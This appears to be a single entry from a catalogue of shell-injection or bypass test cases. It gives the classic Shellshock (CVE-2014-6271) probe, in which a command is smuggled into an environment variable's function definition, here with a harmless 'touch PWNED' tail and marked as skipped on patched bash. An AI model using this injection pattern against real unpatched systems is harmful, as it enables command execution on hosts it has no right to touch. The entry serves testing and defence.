#@ id: en-shellshock-classic
#@ about: only unpatched bash runs the tail (not this one)
#@ class: environment
#@ kind: bypass
#@ origin: https://nvd.nist.gov/vuln/detail/CVE-2014-6271 (from general knowledge; the address was not opened)
#@ world: catalogue
#@ skip: historic, not reproducible on a patched bash
#@ body: no-final-newline
#@ ---
env x='() { :;}; touch PWNED' bash -c :
